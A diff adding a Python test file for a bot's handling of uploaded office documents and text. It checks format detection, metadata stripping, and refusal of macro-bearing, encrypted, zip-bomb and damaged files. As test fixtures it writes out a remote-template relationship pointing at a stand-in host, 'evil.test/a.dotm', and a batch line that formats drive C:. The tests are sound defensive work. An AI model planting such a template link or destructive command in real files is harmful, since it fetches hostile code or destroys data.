@@ -1,0 +1,226 @@
+"""What people write in: told by what is in it, and passed on without programs."""
+
+from io import BytesIO
+from typing import Any
+from zipfile import ZIP_DEFLATED, ZipFile
+
+import pytest
+from xlsxwriter import Workbook
+
+from bot import office_files
+from bot.faults import Fault, NotADocument
+from bot.gather import Gathered, gather
+from bot.incoming import Handle, Incoming
+from bot.notes import MOST_BYTES, MOST_FILES, TEXT, document_of, named
+from core.messaging.model import direct
+from core.people.model import Account
+from tests.emulators.pictures import picture
+from tests.people import LEO, LONG_AGO, account_of
+
+OOXML = "application/vnd.openxmlformats-officedocument."
+ODF = "application/vnd.oasis.opendocument."
+CORE = (
+    b"<cp:coreProperties><dc:creator>Dr Secret</dc:creator><dc:title>Plan</dc:title>"
+    b"<cp:lastModifiedBy>Secret, too</cp:lastModifiedBy></cp:coreProperties>"
+)
+FROM_AFAR = (
+    b'<Relationship Type="x/attachedTemplate" '
+    b'Target="https://evil.test/a.dotm" TargetMode="External"/>'
+)
+MAIN = "wordprocessingml.document"
+
+
+def zipped(parts: dict[str, bytes]) -> bytes:
+    made = BytesIO()
+    with ZipFile(made, "w", ZIP_DEFLATED) as packed:
+        for name, data in parts.items():
+            packed.writestr(name, data)
+    return made.getvalue()
+
+
+def contents(main: str) -> bytes:
+    said = f'<Override PartName="/x" ContentType="{OOXML}{main}.main+xml"/>'
+    return f"<Types>{said}</Types>".encode()
+
+
+def word(more: dict[str, bytes] | None = None, main: str = MAIN) -> bytes:
+    told = {"[Content_Types].xml": contents(main), "docProps/core.xml": CORE}
+    return zipped({**told, "word/document.xml": b"<w:t>Hello</w:t>", **(more or {})})
+
+
+def written(more: dict[str, bytes] | None = None, kind: str = "text") -> bytes:
+    told = {"mimetype": f"{ODF}{kind}".encode(), "content.xml": b"<text:p>Hello"}
+    return zipped({**told, **(more or {})})
+
+
+def claiming(size: int) -> bytes:
+    """Of its last part, that it unfolds into so many bytes."""
+    data = bytearray(word())
+    at = data.rindex(b"PK\x01\x02") + 24
+    data[at : at + 4] = size.to_bytes(4, "little")
+    return bytes(data)
+
+
+def fault_of(data: bytes) -> Fault:
+    with pytest.raises(NotADocument) as told:
+        document_of(data)
+    return told.value.fault
+
+
+@pytest.mark.parametrize(
+    ("main", "ending"),
+    [
+        (MAIN, "docx"),
+        ("spreadsheetml.sheet", "xlsx"),
+        ("presentationml.presentation", "pptx"),
+        ("presentationml.slideshow", "ppsx"),
+    ],
+)
+def test_what_office_writes_is_known_whatever_it_is_called(main: str, ending: str):
+    kept = document_of(word(main=main))
+    assert kept.mime == f"{OOXML}{main}"
+    assert named(kept, "holiday.jpg").name == f"holiday.{ending}"
+
+
+@pytest.mark.parametrize(
+    ("kind", "ending"),
+    [("text", "odt"), ("spreadsheet", "ods"), ("presentation", "odp")],
+)
+def test_so_is_what_libre_office_writes(kind: str, ending: str):
+    assert named(document_of(written(kind=kind)), "a").name == f"document.{ending}"
+
+
+def test_a_real_workbook_is_whole_and_says_no_more_who_wrote_it():
+    made = BytesIO()
+    with Workbook(made) as book:
+        book.set_properties({"author": "Dr Secret", "company": "Secret & Co"})
+        book.add_worksheet("Plan").write("A1", 42)
+
+    kept = document_of(made.getvalue())
+
+    with ZipFile(BytesIO(kept.data)) as packed, ZipFile(made) as was:
+        assert packed.namelist() == was.namelist()
+        assert packed.testzip() is None
+        sheet = "xl/worksheets/sheet1.xml"
+        assert packed.read(sheet) == was.read(sheet)
+        assert not any(b"Secret" in packed.read(each) for each in packed.namelist())
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        word({"word/vbaProject.bin": b"x"}),
+        word({"xl/macrosheets/sheet1.xml": b"x"}),
+        word({"word/activeX/activeX1.xml": b"x"}),
+        word({"word/embeddings/oleObject1.bin": b"x"}),
+        word({"word/embeddings/Sheet.xlsm": b"x"}),
+        written({"Basic/Standard/Module1.xml": b"x"}),
+        written({"Scripts/python/run.py": b"x"}),
+        zipped({"[Content_Types].xml": b'<Default ContentType="a/b.macroEnabled"/>'}),
+        word({"word/_rels/settings.xml.rels": FROM_AFAR}),
+    ],
+)
+def test_a_file_with_a_program_in_it_is_refused(data: bytes):
+    assert fault_of(data) is Fault.MACROS
+
+
+def test_one_with_a_password_or_of_the_old_kind_says_so():
+    old = office_files.OLE + b"\0" * 600
+    assert fault_of(old) is Fault.OLD
+    assert fault_of(old + office_files.WITH_PASSWORD) is Fault.LOCKED
+    manifest = b"<manifest:encryption-data/>"
+    assert fault_of(written({"META-INF/manifest.xml": manifest})) is Fault.LOCKED
+    flagged = bytearray(word())
+    flagged[flagged.rindex(b"PK\x01\x02") + 8] |= 1
+    assert fault_of(bytes(flagged)) is Fault.LOCKED
+
+
+def test_what_unfolds_into_too_much_is_never_unfolded():
+    assert fault_of(claiming(office_files.MOST_UNPACKED)) is Fault.UNFOLDS
+    long = zipped({"[Content_Types].xml": b" " * 1_000_001})
+    assert fault_of(long) is Fault.UNFOLDS
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        zipped({"readme": b"only a zip"}),
+        word()[:-40],
+        claiming(3),
+        zipped({"mimetype": b"application/epub+zip"}),
+        zipped(
+            {"[Content_Types].xml": contents(MAIN) + contents("spreadsheetml.sheet")}
+        ),
+        b"PK\x03\x04" + b"\xff" * 100,
+    ],
+)
+def test_another_zip_and_a_damaged_one_are_no_document(data: bytes):
+    assert fault_of(data) is Fault.KIND
+
+
+def test_of_a_damaged_part_nothing_is_passed_on():
+    data = bytearray(word())
+    data[data.rindex(b"word/document.xml", 0, -100) + 20] ^= 0xFF
+    assert fault_of(bytes(data)) is Fault.KIND
+
+
+@pytest.mark.parametrize(
+    "text", ["Größe: 3\r\n", "\ufeffname;klasse\nÖzge;10B\n", "just words"]
+)
+@pytest.mark.parametrize("code", ["utf-8", "utf-16", "cp1252"])
+def test_plain_text_is_kept_as_it_is(text: str, code: str):
+    data = text.encode(code, errors="ignore")
+    kept = document_of(data)
+    assert (kept.mime, kept.data) == (TEXT, data)
+
+
+def test_plain_text_is_called_text_whatever_it_might_do():
+    kept = document_of(b"@echo off\r\nformat c:\r\n")
+    assert named(kept, "run.bat").name == "run.txt"
+    assert named(kept, "class list.CSV").name == "class list.csv"
+
+
+@pytest.mark.parametrize(
+    "data", [b"{\\rtf1 x}", b"MZ\x90\x00\x03", b"\x7fELF\x01", b"%!PS"]
+)
+def test_what_only_a_machine_reads_is_no_text(data: bytes):
+    assert fault_of(data) is Fault.KIND
+
+
+class Sent:
+    """A platform that hands over what was sent there."""
+
+    def __init__(self, *files: bytes) -> None:
+        self.files = files
+
+    async def fetch(self, handle: Handle, account: Account) -> bytes:
+        del account
+        return self.files[int(handle.ref)]
+
+
+async def papers(*files: bytes) -> Gathered:
+    now, handles = LONG_AGO, [Handle(str(n), name="a.x") for n in range(len(files))]
+    there = direct(account_of(LEO))
+    come = Incoming(account_of(LEO), there, now, now, files=tuple(handles))
+    platform: Any = Sent(*files)
+    looker: Any = None
+    return await gather(come, platform, looker, faces=False, documents=True)
+
+
+async def test_several_come_with_one_message_and_each_is_what_it_is():
+    got = await papers(word(), written(), b"words", picture(40, 30))
+    assert [each.name for each in got.documents] == [
+        "a.docx",
+        "a.odt",
+        "a.txt",
+        "a.jpg",
+    ]
+    assert got.fault is None
+
+
+async def test_one_that_will_not_do_is_said_with_its_reason():
+    bad = word({"word/vbaProject.bin": b"x"})
+    assert (await papers(word(), bad)).fault is Fault.MACROS
+    assert (await papers(*[b"words"] * (MOST_FILES + 1))).fault is Fault.MANY
+    much = b"words " * (MOST_BYTES // 6)
+    assert (await papers(*[much] * 4)).fault is Fault.TOGETHER
